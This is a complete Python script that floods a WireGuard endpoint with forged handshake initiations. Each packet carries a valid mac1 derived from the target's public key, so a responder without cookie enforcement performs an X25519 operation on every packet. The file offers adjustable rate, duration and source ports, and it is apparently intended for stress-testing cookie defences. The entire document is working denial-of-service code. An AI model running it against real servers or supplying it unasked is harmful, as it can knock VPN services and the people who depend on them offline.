#!/usr/bin/env python3
"""A handshake flood that passes mac1: WireGuard initiations (type 1, 148 bytes) with random
ephemeral, static and timestamp fields and a valid mac1 for the target's public key (what anyone
who has seen a member's configuration can make), mac2 zero. Each costs a responder that does not
demand cookies one X25519 before it fails.

usage: handshake_flood.py HOST PORT PUBKEY_BASE64 [--rate N] [--seconds S] [--sources K]
  --rate     initiations per second in all (default 8000)
  --seconds  how long (default 5; bounded at 600)
  --sources  how many source ports to spread them over (default 1)
Prints "sent N initiations in S s from K sources". Documentation addresses only in tests.
"""
import argparse, base64, hashlib, os, socket, sys, time

def main():
    p = argparse.ArgumentParser()
    p.add_argument("host"); p.add_argument("port", type=int); p.add_argument("pubkey")
    p.add_argument("--rate", type=int, default=8000)
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("--sources", type=int, default=1)
    a = p.parse_args()
    seconds = min(max(a.seconds, 0.1), 600.0)
    spub = base64.b64decode(a.pubkey)
    if len(spub) != 32:
        sys.exit("PUBKEY_BASE64 must be a 32-byte Curve25519 public key in base64")
    mac1_key = hashlib.blake2s(b"mac1----" + spub).digest()
    # A pool of distinct messages (each with its own sender index and random fields).
    pool = []
    for _ in range(4096):
        body = b"\x01\x00\x00\x00" + os.urandom(4 + 32 + 48 + 28)
        mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
        pool.append(body + mac1 + bytes(16))
    family = socket.AF_INET6 if ":" in a.host else socket.AF_INET
    socks = []
    for _ in range(max(1, min(a.sources, 4096))):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setblocking(False)
        socks.append(s)
    target = (a.host, a.port)
    sent = 0
    start = time.monotonic()
    end = start + seconds
    tick = 0.005
    per_tick = max(1, int(a.rate * tick))
    next_tick = start
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if now < next_tick:
            time.sleep(next_tick - now)
            continue
        for _ in range(per_tick):
            try:
                socks[sent % len(socks)].sendto(pool[sent % len(pool)], target)
            except (BlockingIOError, OSError):
                pass
            sent += 1
        next_tick += tick
        # Never run ahead of the schedule after a stall: at most one tick of catch-up.
        if next_tick < time.monotonic() - tick:
            next_tick = time.monotonic()
    print(f"sent {sent} initiations in {time.monotonic() - start:.1f} s from {len(socks)} sources")

if __name__ == "__main__":
    main()
